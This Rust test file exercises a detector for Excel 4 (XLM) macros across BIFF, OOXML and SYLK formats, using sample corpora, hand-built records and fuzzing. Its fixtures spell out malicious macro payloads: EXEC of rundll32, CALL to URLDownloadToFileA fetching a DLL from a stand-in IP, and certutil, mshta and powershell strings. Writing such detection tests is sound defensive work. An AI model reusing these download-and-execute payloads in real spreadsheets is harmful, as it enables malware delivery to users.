//! XLM tests: the oletools Excel 4 samples in every format, the calamine corpus (no false macro
//! sheets, no panics), hand-built records, and random bytes.

use super::*;
use crate::ole::{OleFile, is_ole};
use crate::zip::Zip;

const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/corpus");

fn corpus(rel: &str) -> Vec<u8> {
    let path = format!("{CORPUS}/{rel}");
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// The `Workbook` (or `Book`) stream of an OLE file, if it has one.
fn workbook_stream(data: &[u8]) -> Option<Vec<u8>> {
    let mut ole = OleFile::parse(data).ok()?;
    let path = ole
        .find_streams("Workbook")
        .into_iter()
        .chain(ole.find_streams("Book"))
        .next()?;
    ole.read_stream_prefix(&path, 64 << 20).ok().map(|(d, _)| d)
}

/// Every member of a ZIP package fed to `scan_ooxml_part`; None when the ZIP does not open.
fn scan_package(data: &[u8]) -> Option<XlmReport> {
    let mut zip = Zip::open(data, 1024).ok()?;
    let mut report = XlmReport::default();
    for e in zip.entries.clone() {
        if e.is_dir {
            continue;
        }
        if let Ok((bytes, _)) = zip.read(e.index, None, 64 << 20) {
            scan_ooxml_part(&e.name, None, &bytes, &mut report);
        }
    }
    Some(report)
}

/// The report for a file of any of the carriers; None when no carrier opens.
fn scan_file(data: &[u8]) -> Option<XlmReport> {
    if is_ole(data) {
        workbook_stream(data).map(|s| scan_biff(&s))
    } else if data.starts_with(b"PK") {
        scan_package(data)
    } else if looks_like_slk(data) {
        Some(scan_slk(data))
    } else {
        None
    }
}

#[test]
fn xlm_corpus_excel4_samples() {
    for name in [
        "excel4_sample_macro.xls",
        "excel4_sample_macro.xlt",
        "excel4_sample_macro_excel5_format.xls",
        "excel4_sample_macro.xlsm",
        "excel4_sample_macro.xltm",
        "excel4_sample_macro.xlsb",
        "excel4_sample_macro.slk",
    ] {
        let data = corpus(&format!("office/oletools/excel4-macros/{name}"));
        let r = scan_file(&data).unwrap_or_else(|| panic!("{name}: no carrier"));
        eprintln!("{name}: {r:?}");
        assert_eq!(r.macro_sheets.len(), 1, "{name}: {r:?}");
        let expected = if name.ends_with(".slk") {
            "SYLK"
        } else {
            "Macro1"
        };
        assert_eq!(r.macro_sheets[0].name, expected, "{name}");
        assert_eq!(r.macro_sheets[0].state, SheetState::Visible, "{name}");
        assert_eq!(r.auto_open, ["Auto_Open"], "{name}");
        assert!(r.functions.contains(&"ALERT"), "{name}: {:?}", r.functions);
        assert!(r.functions.contains(&"HALT"), "{name}: {:?}", r.functions);
        for absent in ["EXEC", "CALL", "REGISTER"] {
            assert!(!r.functions.contains(&absent), "{name}: {:?}", r.functions);
        }
        assert!(r.strings.is_empty(), "{name}: {:?}", r.strings);
        assert_eq!(r.hidden_worksheets, 0, "{name}");
        assert!(!r.encrypted && r.anomalies.is_empty(), "{name}: {r:?}");
    }
}

#[test]
fn xlm_corpus_calamine_has_no_macro_sheets() {
    let dir = format!("{CORPUS}/office/calamine");
    let mut names: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{dir}: {e}"))
        .filter_map(|e| e.ok().map(|e| e.file_name().to_string_lossy().into_owned()))
        .collect();
    names.sort();
    assert!(names.len() >= 130, "{} files", names.len());
    let mut opened = 0;
    for name in &names {
        let data = corpus(&format!("office/calamine/{name}"));
        // Every entry point takes any bytes.
        let _ = scan_biff(&data);
        let _ = scan_slk(&data);
        let mut raw = XlmReport::default();
        scan_ooxml_part(name, None, &data, &mut raw);
        let Some(r) = scan_file(&data) else {
            continue;
        };
        opened += 1;
        assert!(r.macro_sheets.is_empty(), "{name}: {r:?}");
        assert!(
            r.auto_open.is_empty() && r.functions.is_empty(),
            "{name}: {r:?}"
        );
        if name.starts_with("any_sheets.") && !name.ends_with(".ods") {
            // Visible, Hidden, VeryHidden worksheets and a chart.
            assert_eq!(r.hidden_worksheets, 2, "{name}: {r:?}");
        }
    }
    assert!(opened >= 120, "only {opened} opened");
}

#[test]
fn xlm_corpus_encrypted_xls() {
    let data = corpus("office/oletools/encrypted/dde-test-encrypt-standardpassword.xls");
    let r = scan_file(&data).expect("workbook stream");
    assert!(r.encrypted, "{r:?}");
    assert!(r.macro_sheets.is_empty(), "{r:?}");
    let data = corpus("office/oletools/encrypted/encrypted.xls");
    let r = scan_file(&data).expect("workbook stream");
    assert!(r.encrypted && r.macro_sheets.is_empty(), "{r:?}");
}

// ---- hand-built BIFF8 ----------------------------------------------------------------------

fn rec(ty: u16, body: &[u8]) -> Vec<u8> {
    let mut v = ty.to_le_bytes().to_vec();
    v.extend_from_slice(&(body.len() as u16).to_le_bytes());
    v.extend_from_slice(body);
    v
}

fn bof(dt: u16) -> Vec<u8> {
    let mut b = vec![0x00, 0x06];
    b.extend_from_slice(&dt.to_le_bytes());
    b.extend_from_slice(&[0; 12]);
    rec(0x0809, &b)
}

fn boundsheet(offset: u32, state: u8, dt: u8, name: &str) -> Vec<u8> {
    let mut b = offset.to_le_bytes().to_vec();
    b.extend_from_slice(&[state, dt, name.len() as u8, 0]);
    b.extend_from_slice(name.as_bytes());
    rec(0x0085, &b)
}

/// Lbl: flags, key, cch, cce, 8 bytes, then the (8-bit) name.
fn lbl(flags: u16, name: &[u8]) -> Vec<u8> {
    let mut b = flags.to_le_bytes().to_vec();
    b.extend_from_slice(&[0, name.len() as u8, 0, 0]);
    b.extend_from_slice(&[0; 8]);
    b.push(0);
    b.extend_from_slice(name);
    rec(0x0018, &b)
}

fn formula(rgce: &[u8]) -> Vec<u8> {
    let mut b = vec![0u8; 20];
    b.extend_from_slice(&(rgce.len() as u16).to_le_bytes());
    b.extend_from_slice(rgce);
    rec(0x0006, &b)
}

fn ptg_str(s: &str) -> Vec<u8> {
    let mut v = vec![0x17, s.len() as u8, 0];
    v.extend_from_slice(s.as_bytes());
    v
}

/// One sheet: hsState, BOUNDSHEET dt, name, BOF dt, records of its substream.
type SheetSpec<'a> = (u8, u8, &'a str, u16, Vec<Vec<u8>>);

/// Globals listing `sheets` (offsets patched to their BOFs), then one substream per sheet.
fn workbook(globals_extra: &[Vec<u8>], sheets: &[SheetSpec<'_>]) -> Vec<u8> {
    let bs_len: usize = sheets.iter().map(|s| 4 + 8 + s.2.len()).sum();
    let mut globals = bof(0x0005);
    for r in globals_extra {
        globals.extend_from_slice(r);
    }
    let mut offset = globals.len() + bs_len + 4;
    let mut subs = Vec::new();
    for (state, dt, name, bof_dt, recs) in sheets {
        globals.extend(boundsheet(offset as u32, *state, *dt, name));
        let mut sub = bof(*bof_dt);
        for r in recs {
            sub.extend_from_slice(r);
        }
        sub.extend(rec(0x000A, &[]));
        offset += sub.len();
        subs.extend(sub);
    }
    globals.extend(rec(0x000A, &[]));
    globals.extend(subs);
    globals
}

#[test]
fn xlm_biff_exec_and_builtin_auto_open() {
    let mut exec = ptg_str("rundll32.exe ..\\x.ocx,DllRegisterServer");
    exec.extend_from_slice(&[0x42, 0x01, 0x6E, 0x00]); // ptgFuncVar EXEC, 1 argument
    let mut call = ptg_str("urlmon");
    call.extend_from_slice(&ptg_str("URLDownloadToFileA"));
    call.extend_from_slice(&ptg_str("http://203.0.113.9/a.dll"));
    call.extend_from_slice(&[0x42, 0x03, 0x96, 0x00]); // CALL
    call.extend_from_slice(&[0x41, 0x36, 0x00]); // ptgFunc HALT
    call.extend_from_slice(&[0x42, 0x00, 0x7F, 0x81]); // WORKBOOK.HIDE (command)
    let data = workbook(
        &[lbl(0x0021, &[1]), lbl(0x0000, b"Auto_Open_x1")],
        &[
            (
                0,
                0,
                "Sheet1",
                0x0010,
                vec![formula(&[0x42, 0x01, 0x6E, 0x00])],
            ),
            (2, 1, "Evil", 0x0040, vec![formula(&exec), formula(&call)]),
            (0x05, 0, "Hid", 0x0010, vec![]),
        ],
    );
    let r = scan_biff(&data);
    assert_eq!(
        r.macro_sheets,
        [MacroSheet {
            name: "Evil".into(),
            state: SheetState::VeryHidden
        }]
    );
    assert!(r.has_hidden_macro_sheet());
    assert_eq!(r.auto_open, ["Auto_Open", "Auto_Open_x1"]);
    assert_eq!(r.functions, ["EXEC", "CALL", "HALT", "WORKBOOK.HIDE"]);
    assert_eq!(
        r.strings,
        [
            "rundll32.exe ..\\x.ocx,DllRegisterServer",
            "urlmon",
            "URLDownloadToFileA",
            "http://203.0.113.9/a.dll"
        ]
    );
    // hsState 0x05: reserved bit set, masked to hidden.
    assert_eq!(r.hidden_worksheets, 1);
    assert!(r.anomalies.is_empty(), "{:?}", r.anomalies);

    // Only the macro sheet's formulas count: the EXEC of Sheet1 alone gives nothing.
    let data = workbook(
        &[],
        &[(
            0,
            0,
            "Sheet1",
            0x0010,
            vec![formula(&[0x42, 0x01, 0x6E, 0x00])],
        )],
    );
    let r = scan_biff(&data);
    assert!(r.macro_sheets.is_empty() && r.functions.is_empty(), "{r:?}");
}

#[test]
fn xlm_biff_strings_and_sst() {
    // STRING result split by a CONTINUE that switches to UTF-16.
    let mut string = 12u16.to_le_bytes().to_vec();
    string.push(0);
    string.extend_from_slice(b"powers");
    let mut cont = vec![1u8];
    for c in "hell -e".encode_utf16().take(6) {
        cont.extend_from_slice(&c.to_le_bytes());
    }
    // SST: three entries, the last rich and phonetic, split across a CONTINUE.
    let mut sst = 3u32.to_le_bytes().to_vec();
    sst.extend_from_slice(&3u32.to_le_bytes());
    for s in ["a", "certutil -urlcache"] {
        sst.extend_from_slice(&(s.len() as u16).to_le_bytes());
        sst.push(0);
        sst.extend_from_slice(s.as_bytes());
    }
    let last = "mshta http://x";
    sst.extend_from_slice(&(last.len() as u16).to_le_bytes());
    sst.push(0x0C);
    sst.extend_from_slice(&1u16.to_le_bytes());
    sst.extend_from_slice(&2u32.to_le_bytes());
    sst.extend_from_slice(&last.as_bytes()[..5]);
    let mut sst_cont = vec![0u8];
    sst_cont.extend_from_slice(&last.as_bytes()[5..]);
    sst_cont.extend_from_slice(&[0; 6]);
    let labelsst = |i: u32| {
        let mut b = vec![0u8; 6];
        b.extend_from_slice(&i.to_le_bytes());
        rec(0x00FD, &b)
    };
    let data = workbook(
        &[rec(0x00FC, &sst), rec(0x003C, &sst_cont)],
        &[(
            1,
            1,
            "M",
            0x0040,
            vec![
                formula(&[0x41, 0x6F, 0x00]),
                rec(0x0207, &string),
                rec(0x003C, &cont),
                labelsst(2),
                labelsst(0),
            ],
        )],
    );
    let r = scan_biff(&data);
    assert_eq!(r.functions, ["CHAR"]);
    assert_eq!(r.strings, ["powershell -", "mshta http://x"]);
    assert!(r.anomalies.is_empty(), "{:?}", r.anomalies);
    assert_eq!(r.macro_sheets[0].state, SheetState::Hidden);
}

#[test]
fn xlm_biff_encrypted_and_malformed() {
    // After FILEPASS the BOUNDSHEET body is garbage but its offset still finds the macro BOF.
    let data = workbook(
        &[rec(0x002F, &[1, 0, 1, 0])],
        &[
            (
                0xC3,
                0x99,
                "\u{1}\u{2}",
                0x0040,
                vec![formula(&[0x42, 0, 0x6E, 0])],
            ),
            (0x35, 0x01, "zz", 0x0010, vec![]),
        ],
    );
    let r = scan_biff(&data);
    assert!(r.encrypted);
    assert_eq!(r.macro_sheets.len(), 1, "{r:?}");
    assert!(r.macro_sheets[0].name.starts_with("<encrypted"));
    assert!(r.functions.is_empty() && r.hidden_worksheets == 0, "{r:?}");

    // A record that claims more bytes than there are.
    let mut data = workbook(&[], &[(0, 1, "M", 0x0040, vec![])]);
    data.extend_from_slice(&[0x06, 0x00, 0xFF, 0x7F, 1, 2]);
    let r = scan_biff(&data);
    assert_eq!(r.macro_sheets.len(), 1);
    assert!(
        r.anomalies.iter().any(|a| a.contains("past the end")),
        "{r:?}"
    );

    // A formula whose cce runs past its record, and a token that is cut.
    let mut body = vec![0u8; 20];
    body.extend_from_slice(&50u16.to_le_bytes());
    body.extend_from_slice(&[0x42, 0x01, 0x6E, 0x00, 0x17, 0x09, 0x00, b'a']);
    let data = workbook(&[], &[(0, 1, "M", 0x0040, vec![rec(0x0006, &body)])]);
    let r = scan_biff(&data);
    assert_eq!(r.functions, ["EXEC"]);
    assert_eq!(r.anomalies.len(), 2, "{:?}", r.anomalies);

    // A macro BOF no BOUNDSHEET lists; an empty stream; a stream that is not BIFF.
    let mut data = workbook(&[], &[]);
    data.extend(bof(0x0040));
    data.extend(formula(&[0x42, 0x00, 0x11, 0x80]));
    let r = scan_biff(&data);
    assert_eq!(r.functions, ["RUN"]);
    assert!(r.macro_sheets[0].name.starts_with("<unlisted"));
    assert!(scan_biff(&[]).macro_sheets.is_empty());
    assert!(!scan_biff(b"hello world").anomalies.is_empty());
}

// ---- tokens, text formulas, strings --------------------------------------------------------

#[test]
fn xlm_ptg_dialects() {
    use super::ptg::{Dialect, parse};
    let enc = encoding_rs::WINDOWS_1252;
    // BIFF12: ptgRef (6), ptgArea3d (14), ptgStr u16 + UTF-16, tAttrChoose with 2 offsets.
    let mut t = vec![0x24, 0, 0, 0, 0, 0, 0, 0x3B];
    t.extend_from_slice(&[0; 14]);
    t.extend_from_slice(&[0x17, 2, 0, b'h', 0, b'i', 0]);
    t.extend_from_slice(&[0x19, 0x04, 1, 0, 0, 0, 0, 0]);
    t.extend_from_slice(&[0x22, 1, 0x96, 0x00]);
    let p = parse(&t, Dialect::Biff12, enc);
    assert_eq!(
        (p.funcs.as_slice(), p.strings.as_slice()),
        (&[0x96][..], &["hi".to_string()][..])
    );
    assert!(p.stop.is_none());
    // The same ptgRef in BIFF8 is 4 bytes: the walk goes astray but ends.
    let p = parse(&t, Dialect::Biff8, enc);
    assert!(p.stop.is_some() || !p.funcs.is_empty());
    // BIFF5: ptgRef3d is 17 bytes, ptgStr has no flags byte.
    let mut t = vec![0x3A];
    t.extend_from_slice(&[0; 17]);
    t.extend_from_slice(&[0x17, 3, b'a', b'b', b'c', 0x21, 0x36, 0x00]);
    let p = parse(&t, Dialect::Biff5, enc);
    assert_eq!(p.funcs, [0x36]);
    assert_eq!(p.strings, ["abc"]);
    assert!(parse(&[0x30], Dialect::Biff8, enc).stop.is_some());
    assert!(parse(&[0x18, 0x01], Dialect::Biff8, enc).stop.is_some());
}

#[test]
fn xlm_formula_text_and_names() {
    let mut r = XlmReport::default();
    scan_formula_text(
        &mut r,
        r#"=IF(A1,EXEC("cmd /c ""x"""),_xlfn.CALL('My Sheet'!A1,"SUM(")&FORMULA.FILL?("a",R1C1)&char(65)&NOT.A.FUNC(1)"#,
    );
    assert_eq!(r.functions, ["EXEC", "CALL", "FORMULA.FILL", "CHAR"]);
    assert_eq!(r.strings, ["cmd /c \"x\""]);
    for (name, want) in [
        ("_xlnm.Auto_Open", Some("Auto_Open")),
        ("_xlnm.auto_close", Some("Auto_Close")),
        ("AUTO_OPEN", Some("AUTO_OPEN")),
        ("Auto_Open2", Some("Auto_Open2")),
        ("a$u%t#o_o!p@e^n", Some("a$u%t#o_o!p@e^n")),
        ("Auto_Ope", None),
        ("Print_Area", None),
    ] {
        assert_eq!(auto_name(name).as_deref(), want, "{name}");
    }
}

#[test]
fn xlm_indicators_and_excerpts() {
    let mut r = XlmReport::default();
    for s in [
        "hello",
        "C:\\Users\\Public\\a.exe",
        "a.example.com",
        "x.dllx",
        "REGSVR32 -s",
        "file.DLL",
        ".dll",
    ] {
        r.consider_string(s);
    }
    assert_eq!(
        r.strings,
        ["C:\\Users\\Public\\a.exe", "REGSVR32 -s", "file.DLL"]
    );
    let long = format!(
        "{}https://e.example/{}\u{0}",
        "é".repeat(300),
        "z".repeat(300)
    );
    let mut r = XlmReport::default();
    r.consider_string(&long);
    let s = &r.strings[0];
    assert_eq!(s.chars().count(), MAX_STRING_CHARS);
    assert!(s.contains("https://e.example/"), "{s}");
    for i in 0..100 {
        r.consider_string(&format!("http://h{i}.example/"));
    }
    assert_eq!(r.strings.len(), MAX_STRINGS);
}

// ---- SLK -----------------------------------------------------------------------------------

#[test]
fn xlm_slk() {
    let slk = b"ID;PWXL;N;E\r\nC;Y1;X1;K0;ECALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://e.example/p;;q\",\"c:\\\\p\\\\x.dll\",0,0)\r\nC;Y2;EEXEC(\"rundll32 x.dll,f\")\r\nC;Y3;K\"mshta https://e.example\"\r\nE\r\nC;Y4;EGOTO(R1C1)\r\n";
    assert!(looks_like_slk(slk));
    let r = scan_slk(slk);
    assert_eq!(r.macro_sheets.len(), 1);
    assert!(r.auto_open.is_empty());
    assert_eq!(r.functions, ["CALL", "EXEC"]);
    assert_eq!(r.strings.len(), 6, "{:?}", r.strings);
    assert!(r.strings.contains(&"https://e.example/p;q".to_string()));
    // A worksheet saved as SYLK: no marker, ordinary functions only.
    let plain = b"ID;PWXL;N;E\nO;L;D;V0;K47;G100 0.001\nC;Y1;X1;K3;ESUM(R1C2:R1C3)+CHAR(65)\nE\n";
    let r = scan_slk(plain);
    assert!(
        r.macro_sheets.is_empty() && r.functions == ["CHAR"],
        "{r:?}"
    );
    // The O;E marker alone makes it a macro sheet.
    assert_eq!(scan_slk(b"ID;P\nO;L;E\nE").macro_sheets.len(), 1);
    assert!(!looks_like_slk(b"IDX") && looks_like_slk(b"\xEF\xBB\xBFID;P"));
    assert!(!scan_slk(b"hello").anomalies.is_empty());
}

// ---- robustness ----------------------------------------------------------------------------

/// xorshift64: deterministic pseudo-random bytes.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }

    /// `base` with a few bytes overwritten and maybe cut.
    fn mutate(&mut self, base: &[u8]) -> Vec<u8> {
        let mut v = base.to_vec();
        if v.is_empty() {
            return v;
        }
        for _ in 0..1 + self.next() % 8 {
            let i = (self.next() as usize) % v.len();
            v[i] = self.next() as u8;
        }
        if self.next().is_multiple_of(4) {
            v.truncate((self.next() as usize) % v.len());
        }
        v
    }
}

#[test]
fn xlm_random_bytes_never_panic() {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let xls = corpus("office/oletools/excel4-macros/excel4_sample_macro.xls");
    let biff = workbook_stream(&xls).expect("stream");
    let hand = workbook(
        &[lbl(0x0020, &[1])],
        &[(
            0,
            1,
            "M",
            0x0040,
            vec![formula(&[0x42, 1, 0x6E, 0, 0x17, 1, 0, b'a'])],
        )],
    );
    let xlsb = corpus("office/oletools/excel4-macros/excel4_sample_macro.xlsb");
    let xlsm = corpus("office/oletools/excel4-macros/excel4_sample_macro.xlsm");
    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
    for pkg in [&xlsb, &xlsm] {
        let mut zip = Zip::open(pkg, 64).expect("zip");
        for e in zip.entries.clone() {
            let (d, _) = zip.read(e.index, None, 1 << 20).expect("member");
            parts.push((e.name, d));
        }
    }
    let slk = corpus("office/oletools/excel4-macros/excel4_sample_macro.slk");
    for n in 0..3000 {
        let len = (rng.next() % 512) as usize;
        let noise = rng.bytes(len);
        let _ = scan_biff(&noise);
        let _ = scan_biff(&rng.mutate(&biff));
        let _ = scan_biff(&rng.mutate(&hand));
        let mut s = b"ID;P".to_vec();
        s.extend_from_slice(&noise);
        let _ = looks_like_slk(&noise);
        let _ = scan_slk(&s);
        let _ = scan_slk(&rng.mutate(&slk));
        let mut r = XlmReport::default();
        for (name, data) in &parts {
            let data = if n % 3 == 0 {
                rng.mutate(data)
            } else {
                data.clone()
            };
            scan_ooxml_part(name, None, &data, &mut r);
        }
        scan_ooxml_part("xl/workbook.xml", Some("x"), &noise, &mut r);
        let mut xmlish = b"<workbook><sheet name='".to_vec();
        xmlish.extend_from_slice(&noise);
        scan_ooxml_part("xl/workbook.xml", None, &xmlish, &mut r);
        let mut binish = vec![0x81, 0x01, 0x00];
        binish.extend_from_slice(&noise);
        scan_ooxml_part(
            "xl/macrosheets/s.bin",
            Some("application/vnd.ms-excel.macrosheet"),
            &binish,
            &mut r,
        );
        assert!(r.strings.len() <= MAX_STRINGS && r.anomalies.len() <= MAX_ANOMALIES);
    }
}
